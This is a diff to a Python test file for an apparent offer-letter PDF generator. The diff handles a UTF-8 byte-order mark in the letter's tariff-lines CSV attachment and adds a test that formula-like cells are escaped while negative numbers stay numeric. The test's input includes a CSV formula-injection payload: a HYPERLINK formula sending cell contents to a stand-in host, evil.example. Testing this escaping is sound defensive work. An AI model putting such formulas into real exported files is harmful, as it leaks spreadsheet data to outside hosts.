@@ -70,7 +70,8 @@ def _tariff_csv(pdf: bytes) -> tuple[bytes, list[TariffCommitment]]:
     """The tariff-lines.csv attachment, and its rows read back as tariff lines."""
     with pikepdf.open(io.BytesIO(pdf)) as doc:
         data = doc.attachments["tariff-lines.csv"].get_file().read_bytes()
-    reader = csv.reader(io.StringIO(data.decode("utf-8"), newline=""))
+    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 with a byte-order mark, as every CSV Offerdesk writes
+    reader = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
     assert next(reader) == list(TARIFF_CSV_COLUMNS)
     return data, [
         TariffCommitment(
@@ -384,6 +385,26 @@ def test_a_short_letter_lists_its_lines_and_attaches_them_as_csv() -> None:
     assert b"\r\n" not in data and data.endswith(b"\n")  # one line ending throughout
     with pikepdf.open(io.BytesIO(pdf)) as opened:
         assert sorted(opened.attachments) == ATTACHMENTS
+
+
+def test_the_csv_attachment_keeps_formulas_from_running_and_numbers_as_numbers() -> None:
+    doc = sample_offer("r1", "EU", lines=3, seed=3)
+    first, *rest = doc.tariff_commitments
+    hostile = first.model_copy(
+        update={
+            "hs_code": "@SUM(1+1)",
+            "description": '=HYPERLINK("http://evil.example/?"&A1, "Click")',
+            "current_rate_pct": -0.5,
+            "offered_rate_pct": -12.0,
+        }
+    )
+    doc = doc.model_copy(update={"tariff_commitments": [hostile, *rest]})
+    pdf, _ = render_letter_pdf(letter_input(doc))
+    data, lines = _tariff_csv(pdf)
+    assert lines[0].hs_code == "'@SUM(1+1)" and lines[0].description.startswith("'=HYPERLINK(")
+    assert (lines[0].current_rate_pct, lines[0].offered_rate_pct) == (-0.5, -12.0)
+    assert b",-0.5,-12," in data  # numbers stay numbers, unguarded
+    assert lines[1:] == rest
 
 
 def test_a_letter_of_15000_lines_sums_them_up_by_chapter_and_attaches_every_line() -> None:
